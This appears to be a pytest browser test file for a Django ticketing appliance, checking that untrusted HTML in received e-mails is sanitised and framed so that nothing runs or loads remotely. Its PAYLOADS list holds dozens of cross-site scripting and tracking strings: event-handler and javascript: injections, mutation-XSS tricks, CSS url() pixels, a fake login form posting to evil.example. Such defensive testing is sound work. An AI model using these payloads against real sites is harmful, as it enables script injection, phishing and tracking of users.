"""HTML of strangers' e-mails in a real browser: nothing runs, nothing is fetched from elsewhere."""

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from playwright.sync_api import expect

from appliance.files import services as files_services
from appliance.mail.parsing import parse_email, replace_content_ids
from appliance.tickets.models import Attachment
from appliance.web.tests.test_emails import receive
from tests.browser.test_untrusted_input import HTML
from tests.sample_objects import PNG

pytestmark = pytest.mark.browser

PAYLOADS = [
    *HTML,
    # scripts and handlers
    "<script src=//evil.example/x.js></script>",
    "<script type=module>import('//evil.example/x.js')</script>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/>",
    "<svg><a xlink:href=javascript:alert(1)><text>x",
    "<math><a xlink:href=javascript:alert(1)>x",
    "<body onload=alert(1)>",
    "<video src=x onerror=alert(1)>",
    "<video poster=https://evil.example/p.png>",
    "<audio src=https://evil.example/a.mp3 autoplay>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x",
    "<a href=# onmouseover=alert(1)>x</a>",
    "<p id=x tabindex=1 onfocus=alert(1)>",
    "<img src='cid:x' onload=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<img\x00src=x onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<<script>alert(1)//<</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<table><td><style><!--</style><a title='--&gt;&lt;img src onerror=alert(1)&gt;'>",
    # addresses
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href=/logout/>x</a>",
    "<a ping=https://evil.example/ href=https://evil.example/>x</a>",
    "<area href=javascript:alert(1)>",
    # things of other servers
    "<img src=https://evil.example/pixel.png>",
    "<img src=//evil.example/pixel.png>",
    "<img src=\\\\evil.example\\pixel.png>",
    "<img srcset='https://evil.example/pixel.png 2x'>",
    "<img src=data:image/svg+xml,<svg/onload=alert(1)>>",
    "<img src='cid:x\" onerror=\"alert(1)'>",
    "<img src=/tickets.csv><img src=../../logout/>",
    "<picture><source srcset=https://evil.example/pixel.png><img></picture>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example/><link rel=dns-prefetch href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<meta http-equiv=Content-Security-Policy content='default-src *'>",
    "<base href=https://evil.example/>",
    "<iframe src=https://evil.example/></iframe>",
    "<frameset><frame src=https://evil.example/></frameset>",
    "<object data=https://evil.example/x.swf></object>",
    "<embed src=https://evil.example/x.swf>",
    "<applet code=x.class>",
    "<table background=https://evil.example/p.png><tr><td background=//evil.example/p.png>x",
    "<body background=https://evil.example/p.png>",
    "<form action=https://evil.example/><input name=password><button>Log in</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    # styles
    "<style>@import 'https://evil.example/x.css'; body{display:none}</style>",
    "<style>*{background:url(https://evil.example/p.png)}</style>",
    "<p style=background:url(https://evil.example/p.png)>x",
    "<p style=background-image:url(//evil.example/p.png)>x",
    "<p style='background-color:red;background:u\\72l(//evil.example/p.png)'>x",
    "<p style='color:red;list-style:url(//evil.example/p.png)'>x",
    "<p style='content:url(//evil.example/p.png);cursor:url(//evil.example/p.cur),auto'>x",
    "<p style='border-image:url(//evil.example/p.png) 1'>x",
    "<p style='font-family:\"x\";src:url(//evil.example/f.woff)'>x",
    "<p style=\"color:image-set('//evil.example/p.png' 1x)\">x",
    "<p style='width:expression(alert(1));behavior:url(#x);-moz-binding:url(//evil.example/x)'>x",
    "<p style='position:fixed;inset:0;z-index:9999;background:white'>Log in again",
    "<p style='--x:url(//evil.example/p.png);background:var(--x)'>x",
    "<div style='color:red}*{background:url(//evil.example/p.png)'>x",
]
WRAPPERS = ["{}", "<table><tr><td>{}</td></tr></table>", "<!-- x -->{}<!--"]


def clean(payload: str) -> str:
    raw = b"From: mallory@example.org\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
    return parse_email(raw + payload.encode()).html


@pytest.fixture
def picture(ticket) -> Attachment:
    file = files_services.store(upload=SimpleUploadedFile("a.png", PNG), by=None)
    return Attachment.objects.create(ticket=ticket, file=file)


def test_html_of_an_email_runs_nothing_and_loads_nothing(window, ticket, bob, picture):
    variants = [wrapper.format(payload) for payload in PAYLOADS for wrapper in WRAPPERS]
    assert len(variants) > 200
    shot = replace_content_ids('<img src="cid:shot" alt="shot">', {"shot": f"cid:{picture.pk}"})
    # each alone, and all of them as one e-mail, where they may complete each other
    for html in (shot + "".join(map(clean, variants)), shot + clean("".join(PAYLOADS))):
        email = receive(ticket, html=html)
        page = window(bob)
        page.goto(reverse("email", args=[email.pk]))
        frame = page.frame_locator("iframe")
        expect(frame.get_by_alt_text("shot")).to_be_visible()
        page.wait_for_load_state("networkidle")
        assert frame.get_by_alt_text("shot").evaluate("img => img.naturalWidth") == 1
        assert frame.locator("body").evaluate(FORBIDDEN_ELEMENTS) == []
        page.get_by_role("link", name="Show plain text").click()
        expect(page.locator("iframe")).to_have_count(0)


def test_script_cannot_run_even_past_the_sanitiser(browser, live_server, ticket, bob):
    """The frame and the policy of its document stop what the sanitiser would overlook."""
    from tests.windows import Windows

    html = "<p id=a>safe</p><script>document.body.innerText = 'ran'</script><img src=//192.0.2.1/x>"
    email = receive(ticket, html=html)
    windows = Windows(browser, live_server.url)
    page = windows(bob)
    for path in (reverse("email", args=[email.pk]), reverse("email-html", args=[email.pk])):
        page.goto(path)
        page.wait_for_load_state("networkidle")
        document = page.frame_locator("iframe") if "html" not in path else page
        expect(document.locator("#a")).to_have_text("safe")
    windows.close()
    refusals = [incident for incident in windows.incidents if incident.startswith("policy")]
    assert len(refusals) == 2 and all("img-src" in refusal for refusal in refusals)


FORBIDDEN_ELEMENTS = """
(body) => [...body.querySelectorAll("*")].filter((element) =>
  ["SCRIPT", "IFRAME", "SVG", "MATH", "STYLE", "LINK", "META", "BASE", "FORM", "INPUT", "BUTTON",
    "OBJECT", "EMBED", "VIDEO", "AUDIO", "SOURCE"].includes(element.tagName.toUpperCase()) ||
  [...element.attributes].some((attribute) => attribute.name.startsWith("on")) ||
  ["fixed", "absolute"].includes(getComputedStyle(element).position) ||
  getComputedStyle(element).backgroundImage != "none" ||
  (element.tagName == "IMG" && !["", null].includes(element.getAttribute("src")) &&
    !element.getAttribute("src").startsWith("/attachments/")) ||
  (element.tagName == "A" && element.hasAttribute("href") &&
    !["http:", "https:", "mailto:", "tel:"].includes(element.protocol))
).map((element) => element.outerHTML)
"""
